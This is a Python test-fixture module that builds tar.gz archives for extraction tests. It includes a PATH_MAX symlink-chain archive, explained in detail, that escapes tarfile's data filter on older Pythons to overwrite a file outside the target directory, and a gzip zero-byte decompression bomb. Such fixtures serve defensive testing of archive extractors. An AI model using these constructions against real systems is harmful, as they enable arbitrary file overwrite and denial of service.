"""Hand-made tar.gz archives for the extraction tests: hostile ones included."""

from __future__ import annotations

import io
import os
import struct
import tarfile
import zlib
from typing import Callable, List

STEPS = "abcdefghijklmnop"


def tarball(add: Callable[[tarfile.TarFile], object]) -> bytes:
    """A tar.gz made by ``tarfile`` (an ordinary archive, as a user or another tool makes it)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        add(tar)
    return buffer.getvalue()


def file(tar: tarfile.TarFile, name: str, data: bytes = b"evil") -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def directory(tar: tarfile.TarFile, name: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    info.mode = 0o755
    tar.addfile(info)


def link(tar: tarfile.TarFile, name: str, target: str, hard: bool = False) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
    info.linkname = target
    tar.addfile(info)


def special(tar: tarfile.TarFile, name: str, kind: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    tar.addfile(info)


def path_max_chain(dest: str, victim: str) -> bytes:
    """The PATH_MAX link-chain archive that slips past ``tarfile``'s data filter on old Pythons.

    Directories with long names are reached through one-letter links, so that the link path
    stays short while the real path grows just below PATH_MAX. A link at the end of the chain
    points back to ``dest``; its full real path is past PATH_MAX, so ``os.path.realpath`` stops
    resolving there and takes ``<chain>/<that link>/..`` for a path inside ``dest``, while the
    kernel follows the link and lands in ``dest``'s parent. The link ``escape`` climbs on from
    there to the directory of ``victim`` (an ancestor of ``dest``); the last member overwrites
    ``victim`` through it.
    """
    dest = os.path.abspath(dest)
    ups = len(os.path.relpath(dest, os.path.dirname(os.path.abspath(victim))).split(os.sep))
    room = 4095 - len(dest) - 1 - 24
    width = min(247, room // len(STEPS) - 1)
    comp = "d" * width

    def add(tar: tarfile.TarFile) -> None:
        real = ""
        for step in STEPS:
            directory(tar, os.path.join(real, comp))
            link(tar, os.path.join(real, step), comp)
            real = os.path.join(real, comp)
        chain = os.path.join(*STEPS, "l" * 254)
        link(tar, chain, "../" * len(STEPS))
        link(tar, "escape", chain + "/.." * ups)
        file(tar, "escape/" + os.path.basename(victim), b"overwritten by the archive")

    return tarball(add)


def zero_bomb(size: int) -> bytes:
    """A valid tar.gz holding one file of ``size`` zero bytes, about ``size / 1000`` bytes long.

    Built from one compressed block of zeros repeated (each block stands alone), so it is made
    in a moment whatever its size.
    """
    info = tarfile.TarInfo("zeros.bin")
    info.size = size
    header = info.tobuf(format=tarfile.PAX_FORMAT)
    chunk = 1 << 20
    assert size % chunk == 0
    zeros = bytes(chunk)

    def block(data: bytes) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        return compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)

    parts: List[bytes] = [b"\x1f\x8b\x08\x00" + struct.pack("<I", 0) + b"\x00\xff"]
    parts.append(block(header))
    crc = zlib.crc32(header)
    zero_block = block(zeros)
    for _ in range(size // chunk):
        parts.append(zero_block)
        crc = zlib.crc32(zeros, crc)
    end = bytes(2 * tarfile.BLOCKSIZE)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    parts.append(compressor.compress(end) + compressor.flush(zlib.Z_FINISH))
    crc = zlib.crc32(end, crc)
    total = len(header) + size + len(end)
    parts.append(struct.pack("<II", crc & 0xFFFFFFFF, total & 0xFFFFFFFF))
    return b"".join(parts)
